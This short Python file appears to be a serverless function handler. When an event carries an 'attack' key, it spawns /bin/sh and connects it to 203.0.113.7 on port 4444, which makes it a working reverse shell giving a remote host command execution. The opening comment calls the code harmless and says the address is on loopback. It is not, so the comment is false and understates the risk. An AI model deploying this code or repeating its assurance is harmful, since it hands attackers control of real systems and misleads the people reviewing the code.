# Harmless: the shell gets `id` and `echo` from an address on the sandbox's loopback device, and dies with the sandbox.
import socket
import subprocess
import threading
import time


def pass_on(read, write):
    while True:
        data = read()
        if not data:
            return
        write(data)


def handler(event, context):
    if not event.get("attack"):
        return "ok"
    shell = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, bufsize=0)
    connection = socket.create_connection(("203.0.113.7", 4444))
    threading.Thread(target=pass_on, args=(lambda: connection.recv(4096), shell.stdin.write), daemon=True).start()
    threading.Thread(target=pass_on, args=(lambda: shell.stdout.read(4096), connection.send), daemon=True).start()
    time.sleep(0.2)
    return "ok"
